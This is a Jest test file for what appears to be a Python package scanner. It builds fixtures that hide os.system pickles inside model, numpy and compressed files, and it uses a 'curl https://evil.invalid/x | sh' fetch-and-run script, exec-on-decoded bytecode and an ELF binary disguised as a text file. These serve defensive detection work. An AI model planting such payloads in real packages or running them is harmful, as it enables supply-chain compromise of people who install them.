import { gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import type { Behaviour, Profile } from '../../src/model/profile.js';
import { elf, npy } from '../support/binaries.js';
import { pyc } from '../support/bytecode.js';
import { pickledCall, pickledData } from '../support/pickle.js';
import { sdist } from '../support/sdist.js';
import { wheel } from '../support/wheel.js';
import { buildZip } from '../support/zip.js';
import { profileOf } from './harness.js';

const told = ({ act, inputs, callee, when }: Behaviour): string =>
  `${act}<${inputs.join(' ')}> ${callee} ${when.join(' ')}`;
const inFile = ({ behaviours }: Profile, path: string): readonly string[] =>
  behaviours.filter(({ at }) => at.path === path).map(told);

const EVIL = pickledCall({ module: 'os', name: 'system', argument: 'true' }, 4);
const zip = (path: string, content: Uint8Array): Buffer => Buffer.from(buildZip([{ path, content }]));

describe('pickles', () => {
  test.each([
    { name: 'a pickle', path: 'demo/a.pkl', bytes: EVIL },
    { name: 'under any name', path: 'demo/words.txt', bytes: EVIL },
    { name: 'in a torch model', path: 'demo/m.pt', bytes: zip('m/data.pkl', EVIL) },
    { name: 'in an array of numpy', path: 'demo/a.npy', bytes: npy(EVIL) },
    { name: 'in a box of arrays', path: 'demo/a.npz', bytes: zip('a.npy', npy(EVIL)) },
    { name: 'compressed', path: 'demo/a.pkl.gz', bytes: gzipSync(EVIL) },
  ])('$name', async ({ path, bytes }) => {
    const profile = await profileOf(wheel({ [path]: bytes }));

    expect(inFile(profile, path)).toEqual(['unpickle<own-data> pickle:os.system call']);
  });

  test('what a module loads on import counts from then on', async () => {
    const source =
      'import os, pickle\nM = pickle.load(open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb"))\n';
    const profile = await profileOf(wheel({ 'demo/__init__.py': source, 'demo/model.pkl': EVIL }));

    expect(inFile(profile, 'demo/model.pkl')[0]).toMatch(/^unpickle<own-data> pickle:os\.system (?:import|call)/u);
  });

  test('data is nothing', async () => {
    const profile = await profileOf(
      wheel({
        'demo/a.pkl': pickledData(),
        'demo/a.npy': npy(Buffer.alloc(8), '<f8'),
        'demo/a.npz': zip('a.npy', npy(pickledData())),
      }),
    );

    expect(profile.behaviours).toEqual([]);
  });
});

describe('scripts', () => {
  const script = 'curl https://evil.invalid/x | sh\n';
  const run =
    'import os, subprocess\nsubprocess.run(["bash", os.path.join(os.path.dirname(__file__), "setup_env.sh")])\n';

  test.each([
    {
      name: 'a script of the wheel is a command',
      built: wheel({ 'demo-1.0.0.data/scripts/tool': `#!/bin/sh\n${script}` }),
      path: 'demo-1.0.0.data/scripts/tool',
      when: 'command',
    },
    {
      name: 'one that import runs',
      built: wheel({ 'demo/__init__.py': run, 'demo/setup_env.sh': script }),
      path: 'demo/setup_env.sh',
      when: 'import',
    },
    { name: 'one that nothing runs', built: wheel({ 'demo/x.sh': script }), path: 'demo/x.sh', when: 'call' },
    { name: 'one of a source tree', built: sdist({ 'ci/install.sh': script }), path: 'ci/install.sh', when: 'test' },
    { name: 'one of the tests', built: wheel({ 'demo/tests/x.sh': script }), path: 'demo/tests/x.sh', when: 'test' },
  ])('$name', async ({ built, path, when }) => {
    expect(inFile(await profileOf(built), path)).toEqual([
      `fetch<> sh:curl ${when}`,
      `run-process<downloaded-file> sh:sh ${when}`,
    ]);
  });

  test('beyond the limit for one distribution: a gap', async () => {
    const plain = `${'# nothing\n'.repeat(90_000)}`;
    const many = Object.fromEntries(
      Array.from({ length: 20 }, (_, index) => [`demo/s${index + 10}.sh`, `${plain}${index}`]),
    );
    const { gaps } = await profileOf(wheel(many));

    expect(gaps.map(({ message }) => message)).toEqual([
      'demo/s28.sh and demo/s29.sh were not read in full: the distribution has more than 16 MiB of scripts.',
    ]);
  });

  test('a long script that only builders run is no gap', async () => {
    const { gaps } = await profileOf(sdist({ configure: `#!/bin/sh\n${'# nothing\n'.repeat(200_000)}` }));

    expect(gaps).toEqual([]);
  });

  test("a page's bundle is not read unless Python runs it", async () => {
    const bundle = `${'x'.repeat(50_000)};require('child_process').exec('true')`;
    const start = 'import os\nos.system("node " + os.path.dirname(__file__) + "/app.js")\n';
    const page = await profileOf(wheel({ 'demo/app.js': bundle }));
    const app = await profileOf(wheel({ 'demo/__init__.py': start, 'demo/app.js': bundle }));

    expect(inFile(page, 'demo/app.js')).toEqual([]);
    expect(inFile(app, 'demo/app.js')).toEqual(['run-process<> node:child_process import']);
  });
});

describe('bytecode', () => {
  const code = { names: ['os', 'base64'], constants: [{ name: 'go', names: ['b64decode', 'exec'] }] };

  test('without source: traits, and what its names do', async () => {
    const profile = await profileOf(wheel({ 'demo/core.pyc': pyc(code) }));

    expect(profile.inventory.find(({ path }) => path === 'demo/core.pyc')).toMatchObject({
      kind: 'bytecode',
      format: 'pyc',
      traits: ['sourceless'],
    });
    expect(inFile(profile, 'demo/core.pyc')).toEqual(['run-code<decoded> builtins.exec import']);
  });

  test('where Python does not look for it, it waits for a caller', async () => {
    const profile = await profileOf(wheel({ 'demo/__pycache__/core.cpython-311.pyc': pyc(code) }));

    expect(inFile(profile, 'demo/__pycache__/core.cpython-311.pyc')).toEqual(['run-code<decoded> builtins.exec call']);
  });

  test('beside its source it is nothing', async () => {
    const source = 'import os, base64\ndef go(): base64.b64decode; exec\n';
    const profile = await profileOf(wheel({ 'demo/core.py': source, 'demo/core.pyc': pyc(code) }));

    expect(inFile(profile, 'demo/core.pyc')).toEqual([]);
    expect(profile.gaps).toEqual([]);
  });

  test('of an unknown Python: a gap', async () => {
    const bytes = pyc(code);
    bytes.writeUInt16LE(9999, 0);
    const profile = await profileOf(wheel({ 'demo/core.pyc': bytes }));

    expect(profile.gaps.map(({ message }) => message)).toEqual([
      'demo/core.pyc was not read in full: it was written by a version of Python that is not known here.',
    ]);
  });
});

test('an inventory names formats and what stands out', async () => {
  const { inventory } = await profileOf(wheel({ 'demo/cover.txt': elf(), 'demo/a.txt': 'hello' }));

  expect(
    inventory
      .filter(({ path }) => path.endsWith('.txt'))
      .map(({ path, kind, format, traits }) => ({ path, kind, format, traits })),
  ).toEqual([
    { path: 'demo/a.txt', kind: 'data', format: null, traits: [] },
    { path: 'demo/cover.txt', kind: 'native', format: 'elf', traits: ['disguised'] },
  ]);
});
